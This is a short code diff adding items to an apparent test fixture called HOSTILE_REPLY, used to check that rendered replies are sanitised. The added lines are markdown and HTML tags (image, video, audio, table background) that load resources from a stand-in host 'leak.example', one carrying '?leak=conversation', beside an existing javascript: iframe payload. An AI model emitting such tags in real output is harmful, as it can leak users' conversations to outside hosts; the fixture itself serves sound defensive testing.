@@ -43,6 +43,14 @@ export const HOSTILE_REPLY = [
   '',
   '<iframe src="javascript:parent.__pwned=1"></iframe>',
   '',
+  'A pixel that would tell: ![tracking pixel](https://leak.example/pixel.png?leak=conversation)',
+  '',
+  '<video poster="https://leak.example/poster.png" src="https://leak.example/v.mp4" autoplay></video>',
+  '',
+  '<table background="https://leak.example/bg.png"><tr><td>cell</td></tr></table>',
+  '',
+  '<img srcset="https://leak.example/set.png 1x"> <audio src="https://leak.example/a.mp3" autoplay></audio>',
+  '',
   'Safe text at the end.',
 ].join('\n');
 
